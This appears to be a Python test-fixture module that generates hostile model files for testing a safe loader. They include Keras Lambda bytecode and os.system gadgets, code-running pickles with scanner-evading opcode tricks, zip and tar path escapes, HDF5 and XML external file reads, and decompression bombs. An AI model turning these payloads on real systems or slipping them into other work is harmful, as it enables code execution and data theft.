"""Files that no honest program writes, one of each kind, each with the rule for which it has to be refused.

``CORPUS[name].write(folder)`` makes one there and returns its path. Whoever loads it with a careless reader runs
``touch CANARY``, reads SECRET, or runs out of memory or time.
"""

from __future__ import annotations

import base64
import bz2
import gzip
import io
import json
import lzma
import marshal
import os
import pickle
import struct
import tarfile
import zipfile
import zlib
from collections.abc import Callable, Mapping
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import h5py
import numpy as np

import hostile_zips
from wire import message

CANARY = "canary"  # in the folder of the file
SECRET = "secret.txt"
MIB = 2**20


@dataclass(frozen=True)
class Hostile:
    write: Callable[[Path], Path]
    rule: str


CORPUS: dict[str, Hostile] = {}


def hostile(ending: str, rule: str) -> Callable[[Callable[[Path], object]], Callable[[Path], object]]:
    """Enter a function that writes to the path it is given, under its own name."""

    def enter(function: Callable[[Path], object]) -> Callable[[Path], object]:
        name = function.__name__

        def write(folder: Path) -> Path:
            folder.mkdir(parents=True, exist_ok=True)
            (folder / SECRET).write_bytes(b"secret" * 100)
            path = folder / f"{name}{ending}"
            function(path)
            return path

        assert name not in CORPUS
        CORPUS[name] = Hostile(write, rule)
        return function

    return enter


def touch(folder: Path) -> str:
    return f"touch {folder / CANARY}"


# --- what honest files are made of


def dense(units: int = 2, **more: Any) -> dict[str, Any]:
    config = {"name": "dense", "units": units, "activation": "relu", "use_bias": True, **more}
    build = {"input_shape": [None, 3]}
    return {
        "module": "keras.layers",
        "class_name": "Dense",
        "config": config,
        "registered_name": None,
        "build_config": build,
    }


def network(*layers: Any) -> dict[str, Any]:
    begin = {"module": "keras.layers", "class_name": "InputLayer", "registered_name": None}
    first = {**begin, "config": {"batch_shape": [None, 3], "dtype": "float32", "name": "input"}}
    config = {"name": "network", "trainable": True, "layers": [first, *layers]}
    return {"module": "keras", "class_name": "Sequential", "config": config, "registered_name": None}


def weights() -> bytes:
    buffer = io.BytesIO()
    with h5py.File(buffer, "w") as file:
        file["layers/dense/vars/0"] = np.ones((3, 2), "float32")
        file["layers/dense/vars/1"] = np.ones(2, "float32")
    return buffer.getvalue()


METADATA = json.dumps({"keras_version": "3.15.1", "date_saved": "2026-01-01@00:00:00"}).encode()


def members(config: Any = None, **more: bytes) -> dict[str, bytes]:
    text = config if isinstance(config, bytes) else json.dumps(config or network(dense())).encode()
    return {"metadata.json": METADATA, "config.json": text, "model.weights.h5": weights(), **more}


def archive(path: Path, config: Any = None, extra: Mapping[str, bytes] | None = None) -> None:
    path.write_bytes(hostile_zips.honest({**members(config), **(extra or {})}))


def whole_h5(path: Path, config: Any = None, training: Any = None) -> None:
    """As Keras 2 writes it."""
    text = json.dumps(config or {"class_name": "Sequential", "config": {"name": "network", "layers": []}})
    with h5py.File(path, "w") as file:
        file.attrs["keras_version"] = b"2.12.0"
        file.attrs["backend"] = b"tensorflow"
        file.attrs["model_config"] = text.encode()
        if training is not None:
            file.attrs["training_config"] = json.dumps(training).encode()
        group = file.create_group("model_weights")
        group.attrs["layer_names"] = np.array([b"dense"])
        group.attrs["backend"] = b"tensorflow"
        layer = group.create_group("dense")
        layer.attrs["weight_names"] = np.array([b"dense/kernel:0", b"dense/bias:0"])
        layer["dense/kernel:0"] = np.ones((3, 2), "float32")
        layer["dense/bias:0"] = np.ones(2, "float32")


def bytecode(folder: Path) -> str:
    code = compile(f"__import__('os').system({touch(folder)!r})", "<lambda>", "eval")
    return base64.b64encode(marshal.dumps(code)).decode()


def keras_lambda(folder: Path) -> dict[str, Any]:
    code = {"code": bytecode(folder), "defaults": None, "closure": None}
    config = {"name": "lambda", "function": {"class_name": "__lambda__", "config": code}}
    return {"module": "keras.layers", "class_name": "Lambda", "config": config, "registered_name": None}


def layer(module: str, name: str, registered: str | None = None, /, **config: Any) -> dict[str, Any]:
    return {"module": module, "class_name": name, "config": config, "registered_name": registered}


# --- configs: CVE-2024-3660 and its descendants


@hostile(".keras", "code-by-value")
def lambda_in_keras(path: Path) -> None:
    archive(path, network(keras_lambda(path.parent)))


@hostile(".keras", "code-by-value")
def lambda_in_a_nested_model(path: Path) -> None:
    archive(path, network(network(network(keras_lambda(path.parent)))))


@hostile(".keras", "code-by-value")
def lambda_as_an_activation(path: Path) -> None:
    inner = keras_lambda(path.parent)["config"]["function"]
    archive(path, network(dense(activation={"value": [inner["config"]["code"], None, None]})))


@hostile(".keras", "code-by-value")
def bytecode_under_another_key(path: Path) -> None:
    archive(path, network(layer("mine", "Mine", "Mine", formula=bytecode(path.parent))))


@hostile(".h5", "code-by-value")
def lambda_in_h5(path: Path) -> None:
    config = {"name": "lambda", "function_type": "lambda", "function": [bytecode(path.parent), None, None]}
    whole_h5(path, {"class_name": "Sequential", "config": [{"class_name": "Lambda", "config": config}]})


@hostile(".h5", "code-by-value")
def lambda_of_keras_1(path: Path) -> None:
    code = marshal.dumps(compile("0", "<lambda>", "eval")).decode("raw_unicode_escape")
    config = {"name": "lambda", "function": code, "function_type": "lambda"}
    whole_h5(path, {"class_name": "Sequential", "config": [{"class_name": "Lambda", "config": config}]})


@hostile(".h5", "code-by-value")
def lambda_as_a_loss(path: Path) -> None:
    inner = keras_lambda(path.parent)["config"]["function"]
    whole_h5(path, training={"loss": inner, "metrics": [], "optimizer_config": {"class_name": "SGD", "config": {}}})


@hostile(".json", "code-by-value")
def lambda_in_json(path: Path) -> None:
    path.write_text(json.dumps(network(keras_lambda(path.parent))))


@hostile(".keras", "foreign-module")
def module_of_python(path: Path) -> None:
    """CVE-2025-1550."""
    archive(path, network(layer("os", "function", "function", name="x") | {"config": "system"}))


@hostile(".keras", "foreign-module")
def class_of_subprocess(path: Path) -> None:
    archive(path, network(layer("subprocess", "Popen", args=touch(path.parent), shell=True)))


@hostile(".keras", "foreign-module")
def builtin_eval(path: Path) -> None:
    function = {"module": "builtins", "class_name": "function", "config": "eval", "registered_name": "function"}
    archive(path, network(dense(activation=function)))


@hostile(".h5", "foreign-module")
def lambda_that_names_os_system(path: Path) -> None:
    config = {"name": "lambda", "function": "system", "function_type": "function", "module": "os"}
    whole_h5(path, {"class_name": "Sequential", "config": [{"class_name": "Lambda", "config": config}]})


@hostile(".keras", "foreign-module")
def type_of_another_module(path: Path) -> None:
    spec = {"class_name": "__typespec__", "spec_name": "system", "module": "os", "config": [touch(path.parent)]}
    archive(path, network(dense(spec=spec)))


@hostile(".keras", "gadget")
def keras_get_file(path: Path) -> None:
    """CVE-2025-8747."""
    archive(path, network(layer("keras.utils", "get_file", origin="http://127.0.0.1/x", fname="/tmp/x")))


@hostile(".keras", "gadget")
def keras_load_model(path: Path) -> None:
    archive(path, network(layer("keras.models", "load_model", filepath="other.h5", safe_mode=False)))


@hostile(".keras", "gadget")
def safe_mode_switched_off(path: Path) -> None:
    """CVE-2025-9906."""
    off = layer("keras.config", "enable_unsafe_deserialization")
    archive(path, network(off, keras_lambda(path.parent)))


@hostile(".keras", "gadget")
def inner_function_of_keras(path: Path) -> None:
    archive(path, network(layer("keras.src.utils.python_utils", "func_load", code=bytecode(path.parent))))


@hostile(".keras", "foreign-layer")
def torch_module_wrapper(path: Path) -> None:
    """CVE-2025-49655."""
    module = base64.b64encode(pickle.dumps(Touch(path.parent))).decode()
    archive(path, network(layer("keras.layers", "TorchModuleWrapper", module=module)))


@hostile(".keras", "foreign-layer")
def tfsm_layer(path: Path) -> None:
    """CVE-2026-1462."""
    archive(path, network(layer("keras.layers", "TFSMLayer", filepath="/tmp/other", call_endpoint="serve")))


@hostile(".keras", "function-layer")
def jax_layer(path: Path) -> None:
    archive(path, network(layer("keras.layers", "JaxLayer", call_fn="f")))


@hostile(".keras", "registered-name")
def dense_under_another_name(path: Path) -> None:
    archive(path, network({**dense(), "registered_name": "mine>Dense"}))


@hostile(".keras", "file-argument")
def vocabulary_from_a_file(path: Path) -> None:
    """CVE-2025-12058."""
    archive(path, network(layer("keras.layers", "StringLookup", vocabulary=str(path.parent / SECRET))))


@hostile(".keras", "file-argument")
def vocabulary_from_an_address(path: Path) -> None:
    archive(path, network(layer("keras.layers", "TextVectorization", vocabulary="http://127.0.0.1/words.txt")))


@hostile(".keras", "layer-name")
def layer_that_leaves_its_folder(path: Path) -> None:
    archive(path, network({**dense(), "config": {**dense()["config"], "name": "../../escape"}}))


@hostile(".keras", "declared-size")
def layer_of_gigabytes(path: Path) -> None:
    archive(path, network(dense(60_000_000)))


@hostile(".json", "declared-size")
def architecture_of_terabytes(path: Path) -> None:
    path.write_text(json.dumps(network(layer("keras.layers", "Embedding", input_dim=10**9, output_dim=10**3))))


@hostile(".json", "tensorflow-operation")
def operation_that_writes(path: Path) -> None:
    operation = {"class_name": "TFOpLambda", "config": {"name": "write", "function": "io.write_file"}}
    path.write_text(json.dumps({"class_name": "Functional", "config": {"layers": [operation]}}))


@hostile(".json", "tensorflow-operation")
def node_that_reads(path: Path) -> None:
    node = {"name": "read", "op": "ReadFile", "input": ["name"]}
    inner = {"class_name": "TensorFlowOpLayer", "config": {"name": "read", "node_def": json.dumps(node)}}
    path.write_text(json.dumps({"class_name": "Model", "config": {"layers": [inner]}}))


@hostile(".keras", "malformed-config")
def class_name_that_is_none(path: Path) -> None:
    archive(path, network({**dense(), "class_name": ["Dense"]}))


# --- JSON


@hostile(".keras", "json-duplicate-key")
def key_twice(path: Path) -> None:
    archive(path, json.dumps(network(dense())).encode()[:-1] + b', "class_name": "Lambda"}')


@hostile(".json", "limit")
def nested_json(path: Path) -> None:
    path.write_text('{"class_name": "Sequential", "config": ' + "[" * 200_000 + "]" * 200_000 + "}")


@hostile(".keras", "limit")
def config_of_spaces(path: Path) -> None:
    text = json.dumps(network(dense())).encode() + b" " * (200 * MIB)
    path.write_bytes(hostile_zips.honest(members(text), zipfile.ZIP_DEFLATED))


@hostile(".keras", "damaged")
def config_of_no_text(path: Path) -> None:
    archive(path, b"\xff\xfe" + json.dumps(network(dense())).encode("utf-16-le"))


@hostile(".keras", "damaged")
def config_cut_off(path: Path) -> None:
    archive(path, json.dumps(network(dense())).encode()[:-20])


@hostile(".yaml", "yaml-python-tag")
def yaml_that_calls(path: Path) -> None:
    call = f"!!python/object/apply:os.system ['{touch(path.parent)}']"
    path.write_text(f"backend: tensorflow\nclass_name: Sequential\nconfig: {call}\n")


# --- zip


@hostile(".keras", "zip-path")
def member_outside(path: Path) -> None:
    archive(path, extra={"../../escape.txt": b"x"})


@hostile(".keras", "zip-path")
def member_with_a_root(path: Path) -> None:
    archive(path, extra={"/tmp/escape.txt": b"x"})


@hostile(".keras", "zip-special-file")
def member_that_is_a_link(path: Path) -> None:
    link = hostile_zips.honest({"assets/link": b"/etc/passwd"}, external_attr=0o120777 << 16, create_system=3)
    path.write_bytes(_joined(hostile_zips.honest(members()), link))


@hostile(".keras", "zip-duplicate-name")
def two_configs(path: Path) -> None:
    evil = json.dumps(network(keras_lambda(path.parent))).encode()
    path.write_bytes(hostile_zips.twice(members(), "config.json", evil))


@hostile(".keras", "limit")
def members_that_overlap(path: Path) -> None:
    path.write_bytes(hostile_zips.overlapping(100, 16 * MIB))


@hostile(".keras", "zip-mismatch")
def header_that_differs(path: Path) -> None:
    data = hostile_zips.honest(members())
    path.write_bytes(data.replace(b"config.json", b"konfig.json", 1))


@hostile(".keras", "zip-prefix")
def program_before_a_zip(path: Path) -> None:
    path.write_bytes(b"#!/bin/sh\n" + touch(path.parent).encode() + b"\nexit\n" + hostile_zips.honest(members()))


@hostile(".keras", "keras-archive-program")
def pickle_among_the_assets(path: Path) -> None:
    archive(path, extra={"assets/layer/state.pkl": pickle.dumps(Touch(path.parent))})


@hostile(".keras", "keras-archive-program")
def program_among_the_assets(path: Path) -> None:
    archive(path, extra={"assets/layer/vocabulary.txt": b"\x7fELF\x02\x01\x01" + bytes(100)})


@hostile(".keras", "pickle-call")
def pickle_under_the_name_of_a_vocabulary(path: Path) -> None:
    archive(path, extra={"assets/layer/vocabulary.txt": pickle.dumps(Touch(path.parent))})


@hostile(".keras", "keras-archive-two-weights")
def two_weights(path: Path) -> None:
    archive(path, extra={"model.weights.npz": hostile_zips.honest({"a.npy": b""})})


@hostile(".keras", "limit")
def member_of_zeros(path: Path) -> None:
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as file:
        for name, data in members().items():
            file.writestr(name, data)
        with file.open("assets/zeros", "w", force_zip64=True) as member:
            for _ in range(512):
                member.write(bytes(MIB))


@hostile(".keras", "limit")
def too_many_members(path: Path) -> None:
    archive(path, extra={f"assets/{number}": b"" for number in range(10_001)})


@hostile(".keras", "damaged")
def member_that_was_changed(path: Path) -> None:
    data = hostile_zips.honest(members())
    at = data.index(b'"Sequential"')
    path.write_bytes(data[:at] + b'"Functional"' + data[at + 12 :])


@hostile(".keras", "damaged")
def archive_cut_off(path: Path) -> None:
    path.write_bytes(hostile_zips.honest(members())[:-30])


def _joined(one: bytes, other: bytes) -> bytes:
    """The members of both zips."""
    begin, end = (data.index(hostile_zips.CENTRAL) for data in (one, other))
    end_of_one, end_of_other = (data.rindex(hostile_zips.END) for data in (one, other))
    directory = other[end:end_of_other]
    directory = directory[:42] + struct.pack("<L", begin) + directory[46:]
    both = one[:begin] + other[:end] + one[begin:end_of_one] + directory
    count = one[begin:end_of_one].count(hostile_zips.CENTRAL) + 1
    size = len(both) - begin - end
    return both + struct.pack("<4s4H2LH", hostile_zips.END, 0, 0, count, count, size, begin + end, 0)


# --- HDF5


@hostile(".h5", "hdf5-external-link")
def link_to_another_file(path: Path) -> None:
    whole_h5(path)
    with h5py.File(path, "a") as file:
        file["model_weights/dense/other"] = h5py.ExternalLink(str(path.parent / "other.h5"), "/secret")


@hostile(".weights.h5", "hdf5-external-link")
def parent_in_another_file(path: Path) -> None:
    with h5py.File(path, "w") as file:
        file["layers"] = h5py.ExternalLink("other.h5", "/layers")


@hostile(".weights.h5", "hdf5-soft-link")
def soft_link(path: Path) -> None:
    path.write_bytes(weights())
    with h5py.File(path, "a") as file:
        file["layers/loop"] = h5py.SoftLink("/layers")


@hostile(".weights.h5", "hdf5-external-storage")
def values_in_another_file(path: Path) -> None:
    """CVE-2026-1669."""
    path.write_bytes(weights())
    with h5py.File(path, "a") as file:
        external = [(str(path.parent / SECRET), 0, 24)]
        file.create_dataset("layers/dense/vars/2", (6,), "float32", external=external)


@hostile(".weights.h5", "hdf5-virtual-dataset")
def values_made_of_other_datasets(path: Path) -> None:
    path.write_bytes(weights())
    layout = h5py.VirtualLayout((6,), "float32")
    layout[:] = h5py.VirtualSource(str(path.parent / "other.h5"), "x", (6,))
    with h5py.File(path, "a") as file:
        file.create_virtual_dataset("layers/dense/vars/2", layout)


@hostile(".weights.h5", "hdf5-declared-size")
def values_that_are_not_there(path: Path) -> None:
    """CVE-2026-0897."""
    path.write_bytes(weights())
    with h5py.File(path, "a") as file:
        file.create_dataset("layers/dense/vars/2", (2**40,), "float32", chunks=(2**18,), compression="gzip")


@hostile(".weights.h5", "hdf5-shared-object")
def group_that_holds_itself(path: Path) -> None:
    path.write_bytes(weights())
    with h5py.File(path, "a") as file:
        file["layers/dense/again"] = file["layers"]


@hostile(".weights.h5", "limit")
def attributes_by_the_thousand(path: Path) -> None:
    path.write_bytes(weights())
    with h5py.File(path, "a") as file:
        for number in range(3000):
            file.attrs[f"a{number}"] = number


@hostile(".weights.h5", "hdf5-filter")
def filter_from_a_library(path: Path) -> None:
    path.write_bytes(weights())
    with h5py.File(path, "a") as file:
        space = h5py.h5s.create_simple((10,))
        properties = h5py.h5p.create(h5py.h5p.DATASET_CREATE)
        properties.set_chunk((10,))
        properties.set_filter(32015, h5py.h5z.FLAG_OPTIONAL)
        h5py.h5d.create(file.id, b"layers/dense/vars/2", h5py.h5t.NATIVE_FLOAT, space, properties)


@hostile(".weights.h5", "hdf5-type")
def references_as_weights(path: Path) -> None:
    path.write_bytes(weights())
    with h5py.File(path, "a") as file:
        file.create_dataset("layers/dense/vars/2", (3,), h5py.ref_dtype)


@hostile(".h5", "damaged")
def hdf5_cut_off(path: Path) -> None:
    whole_h5(path)
    path.write_bytes(path.read_bytes()[:-500])


@hostile(".h5", "hdf5-user-block")
def program_before_hdf5(path: Path) -> None:
    whole_h5(path)
    head = b"#!/bin/sh\n" + touch(path.parent).encode() + b"\nexit\n"
    path.write_bytes(head.ljust(512, b"\0") + path.read_bytes())


@hostile(".h5", "h5-weight-names")
def weight_name_outside(path: Path) -> None:
    whole_h5(path)
    with h5py.File(path, "a") as file:
        file["model_weights/dense"].attrs["weight_names"] = np.array([b"../../../secret"])


# --- SavedModel


def saved_model(path: Path, *nodes: bytes, functions: tuple[bytes, ...] = (), **more: bytes) -> None:
    library = b"".join(message((1, function)) for function in functions)
    graph = message(*((1, node) for node in nodes), (2, library))
    info = message((4, "serve"), (5, "2.21.0"))
    meta = message((1, info), (2, graph))
    meta += b"".join(message((6, asset)) for asset in more.pop("assets", ()))
    path.mkdir()
    (path / "saved_model.pb").write_bytes(message((1, 1), (2, meta)))
    for name, data in more.items():
        (path / f"{name}.pb").write_bytes(data)


def node(op: str, name: str = "node", *inputs: str, **attributes: bytes) -> bytes:
    entries = [message((1, key), (2, value)) for key, value in attributes.items()]
    return message((1, name), (2, op), *((3, one) for one in inputs), *((5, entry) for entry in entries))


def text_constant(name: str, text: str) -> bytes:
    tensor = message((1, 7), (2, b""), (8, text))
    return node("Const", name, dtype=message((6, 7)), value=message((8, tensor)))


@hostile("", "graph-python")
def graph_that_runs_python(path: Path) -> None:
    saved_model(path, node("PyFunc"))


@hostile("", "graph-writes-file")
def graph_that_writes(path: Path) -> None:
    name, text = text_constant("name", str(path.parent / CANARY)), text_constant("text", "x")
    saved_model(path, name, text, node("WriteFile", "write", "name", "text"))


@hostile("", "graph-reads-file")
def graph_that_reads_in_a_function(path: Path) -> None:
    name = text_constant("name", str(path.parent / SECRET))
    function = message((1, message((1, "never_called"))), (3, name), (3, node("ReadFile", "read", "name:output:0")))
    saved_model(path, functions=(function,))


@hostile("", "graph-unknown-operation")
def graph_with_an_operation_of_its_own(path: Path) -> None:
    saved_model(path, node("EvilOp"))


@hostile("", "asset-path")
def asset_outside(path: Path) -> None:
    asset = message((1, message((1, "asset:0"))), (2, "../../etc/passwd"))
    saved_model(path, text_constant("asset", "x"), assets=(asset,))


@hostile("", "code-by-value")
def lambda_in_the_metadata_of_a_saved_model(path: Path) -> None:
    config = {"name": "lambda", "function_type": "lambda", "function": [bytecode(path.parent), None, None]}
    metadata = json.dumps({"class_name": "Lambda", "config": config})
    record = message((2, 1), (3, "root.layer-0"), (4, "_tf_keras_layer"), (5, metadata))
    saved_model(path, keras_metadata=message((1, record)))


@hostile("", "folder-special-file")
def link_in_a_saved_model(path: Path) -> None:
    saved_model(path)
    (path / "assets").mkdir()
    (path / "assets" / "words.txt").symlink_to("/etc/passwd")


@hostile("", "saved-model-shadowed")
def second_graph(path: Path) -> None:
    saved_model(path)
    (path / "saved_model.cpb").write_bytes(b"x")


# --- pickles


class Touch:
    """Unpickling it makes the canary."""

    def __init__(self, folder: Path) -> None:
        self.folder = folder

    def __reduce__(self) -> Any:
        return os.system, (touch(self.folder),)


for _protocol in range(6):

    def _pickled(path: Path, protocol: int = _protocol) -> None:
        path.write_bytes(pickle.dumps({"a": [Touch(path.parent)]}, protocol))

    _pickled.__name__ = f"pickle_of_protocol_{_protocol}"
    hostile(".pkl", "pickle-call")(_pickled)

for _name, _pack in {"gzip": gzip.compress, "zlib": zlib.compress, "bz2": bz2.compress, "xz": lzma.compress}.items():

    def _packed(path: Path, pack: Callable[[bytes], bytes] = _pack) -> None:
        path.write_bytes(pack(pickle.dumps(Touch(path.parent))))

    _packed.__name__ = f"pickle_in_{_name}"
    hostile(".pkl", "pickle-call")(_packed)


def opcodes(*parts: bytes) -> bytes:
    return b"\x80\x04" + b"".join(parts) + b"."


def short(text: str) -> bytes:
    return b"\x8c" + bytes([len(text)]) + text.encode()


@hostile(".pkl", "pickle-broken")
def pickle_that_breaks_off_behind_the_call(path: Path) -> None:
    path.write_bytes(pickle.dumps(Touch(path.parent))[:-1] + b"\xff garbage")


@hostile(".pkl", "pickle-call")
def pickle_whose_memo_is_written_over(path: Path) -> None:
    """A scanner that counts MEMOIZE takes the first text for the module: PUT gave number 0 another."""
    parts = (short("collections"), b"\x94", short("posix"), b"q\x00", b"00", b"h\x00", short("system"), b"\x93")
    path.write_bytes(opcodes(*parts, short("true"), b"\x85R"))


@hostile(".pkl", "pickle-unresolved")
def pickle_whose_module_is_computed(path: Path) -> None:
    joined = b"c_codecs\nencode\n" + short("posix") + short("utf-8") + b"\x86R"
    path.write_bytes(opcodes(joined, short("system"), b"\x93", short("true"), b"\x85R"))


@hostile(".pkl", "pickle-unresolved")
def pickle_of_the_extension_registry(path: Path) -> None:
    path.write_bytes(opcodes(b"\x82\x01", b")R"))


@hostile(".pkl", "pickle-call")
def pickle_by_inst(path: Path) -> None:
    path.write_bytes(b"(S'true'\niposix\nsystem\n.")


@hostile(".pkl", "pickle-call")
def pickle_of_getattr(path: Path) -> None:
    path.write_bytes(opcodes(b"cbuiltins\ngetattr\n", b"cos\npath\n", short("os"), b"\x86R"))


@hostile(".pkl", "pickle-call")
def pickle_behind_a_pickle(path: Path) -> None:
    path.write_bytes(pickle.dumps([1]) + pickle.dumps(Touch(path.parent)))


@hostile(".pkl", "limit")
def pickle_of_many_opcodes(path: Path) -> None:
    path.write_bytes(opcodes(b"K\x010" * 1_500_000, b"N"))


@hostile(".pkl", "limit")
def pickle_of_packed_zeros(path: Path) -> None:
    path.write_bytes(gzip.compress(opcodes(b"\x8e" + struct.pack("<Q", 400 * MIB) + bytes(400 * MIB)), 1))


@hostile(".keras", "wrong-ending")
def pickle_under_another_name(path: Path) -> None:
    path.write_bytes(pickle.dumps({"a": 1}))


@hostile(".joblib", "pickle-call")
def joblib_with_objects(path: Path) -> None:
    joblib = __import__("joblib")
    joblib.dump({"a": np.arange(10), "b": np.array([Touch(path.parent)], object)}, path)


@hostile(".pkl", "pickle-call")
def array_of_joblib_whose_values_are_opcodes(path: Path) -> None:
    """joblib passes over them; plain unpickling runs them."""
    values = b"cposix\nsystem\n" + short("true") + b"\x85R."
    state = {"subclass": None, "shape": (len(values),), "order": "C", "dtype": np.dtype("u1"), "allow_mmap": False}
    wrapper = b"cjoblib.numpy_pickle\nNumpyArrayWrapper\n)\x81" + pickle.dumps(state, 3)[2:-1] + b"b"
    path.write_bytes(opcodes(wrapper, values))


@hostile(".npy", "pickle-call")
def npy_of_objects(path: Path) -> None:
    np.save(path, np.array([Touch(path.parent)], object), allow_pickle=True)


@hostile(".npz", "pickle-call")
def npz_of_objects(path: Path) -> None:
    np.savez(path, a=np.ones(2), b=np.array([Touch(path.parent)], object))


@hostile(".pt", "pickle-call")
def torch_archive(path: Path) -> None:
    data = {
        "model/data.pkl": pickle.dumps(Touch(path.parent), 2),
        "model/version": b"3\n",
        "model/byteorder": b"little",
    }
    path.write_bytes(hostile_zips.honest(data))


@hostile(".pt", "pickle-call")
def torch_before_1_6(path: Path) -> None:
    first = [0x1950A86A20F9469CFC6C, 1001, {"little_endian": True}, Touch(path.parent), []]
    path.write_bytes(b"".join(pickle.dumps(value, 2) for value in first))


# --- ONNX, OpenVINO


def onnx(path: Path, *graph: tuple[int, bytes]) -> None:
    opset = message((1, ""), (2, 18))
    path.write_bytes(message((1, 10), (2, "tests"), (7, message(*graph, (2, "graph"))), (8, opset)))


@hostile(".onnx", "onnx-external-data")
def weights_of_onnx_in_another_file(path: Path) -> None:
    location = message((1, "location"), (2, "../../../etc/passwd"))
    onnx(path, (5, message((1, 4), (2, 1), (8, "kernel"), (13, location), (14, 1))))


@hostile(".onnx", "onnx-python")
def onnx_that_runs_python(path: Path) -> None:
    onnx(path, (1, message((1, "x"), (2, "y"), (4, "PyOp"), (7, "com.microsoft.extensions"))))


@hostile(".xml", "openvino-doctype")
def xml_that_grows(path: Path) -> None:
    lines = "".join(f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 10))
    path.write_text(f'<!DOCTYPE net [<!ENTITY a0 "ha">{lines}]><net name="&a9;" version="11"><layers/></net>')
    path.with_suffix(".bin").write_bytes(b"")


@hostile(".xml", "openvino-doctype")
def xml_that_reads_a_file(path: Path) -> None:
    entity = f'<!ENTITY secret SYSTEM "file://{path.with_name(SECRET)}">'
    path.write_text(f'<!DOCTYPE net [{entity}]><net name="&secret;" version="11"><layers/></net>')
    path.with_suffix(".bin").write_bytes(b"")


# --- arrays


@hostile(".npy", "npy-size")
def npy_that_declares_terabytes(path: Path) -> None:
    header = b"{'descr': '<f4', 'fortran_order': False, 'shape': (1099511627776,), }".ljust(117) + b"\n"
    path.write_bytes(b"\x93NUMPY\x01\x00" + struct.pack("<H", len(header)) + header)


@hostile(".safetensors", "safetensors-overlap")
def tensors_that_overlap(path: Path) -> None:
    one = {"dtype": "F32", "shape": [2], "data_offsets": [0, 8]}
    header = json.dumps({"a": one, "b": one}).encode()
    path.write_bytes(struct.pack("<Q", len(header)) + header + bytes(8))


@hostile(".safetensors", "unknown-form")
def header_of_gigabytes(path: Path) -> None:
    path.write_bytes(struct.pack("<Q", 2**32) + b'{"a":' + bytes(1000))


# --- archives and folders


def tar(path: Path, *entries: tarfile.TarInfo, mode: str = "w:gz") -> None:
    with tarfile.open(path, mode) as file:  # type: ignore[call-overload]
        model = hostile_zips.honest(members())
        info = tarfile.TarInfo("model.keras")
        info.size = len(model)
        file.addfile(info, io.BytesIO(model))
        for entry in entries:
            file.addfile(entry, io.BytesIO(b"x" * entry.size))


def entry(name: str, kind: bytes = tarfile.REGTYPE, link: str = "") -> tarfile.TarInfo:
    info = tarfile.TarInfo(name)
    info.type, info.linkname = kind, link
    info.size = 1 if kind == tarfile.REGTYPE else 0
    return info


@hostile(".tar.gz", "tar-path")
def tar_outside(path: Path) -> None:
    """CVE-2025-12060."""
    tar(path, entry("../../escape"))


@hostile(".tar.gz", "tar-special-file")
def tar_with_a_link(path: Path) -> None:
    """CVE-2025-12638."""
    tar(path, entry("link", tarfile.SYMTYPE, "/etc"), entry("link/passwd"))


@hostile(".tar.gz", "tar-special-file")
def tar_with_a_hard_link(path: Path) -> None:
    tar(path, entry("passwd", tarfile.LNKTYPE, "/etc/passwd"))


@hostile(".tar.gz", "tar-special-file")
def tar_with_a_device(path: Path) -> None:
    tar(path, entry("zero", tarfile.CHRTYPE))


@hostile(".tar.gz", "limit")
def tar_of_zeros(path: Path) -> None:
    with tarfile.open(path, "w:gz", compresslevel=1) as file:
        info = tarfile.TarInfo("zeros")
        info.size = 600 * MIB
        with open("/dev/zero", "rb") as zeros:
            file.addfile(info, zeros)


@hostile(".zip", "zip-path")
def zip_outside(path: Path) -> None:
    path.write_bytes(hostile_zips.honest({"model.keras": hostile_zips.honest(members()), "../escape": b"x"}))


@hostile("", "folder-special-file")
def folder_with_a_pipe(path: Path) -> None:
    saved_model(path)
    os.mkfifo(path / "pipe")


# --- nothing that is known


@hostile(".h5", "unknown-form")
def empty_file(path: Path) -> None:
    path.touch()


@hostile(".keras", "unknown-form")
def random_bytes(path: Path) -> None:
    path.write_bytes(np.random.default_rng(1).bytes(5000))
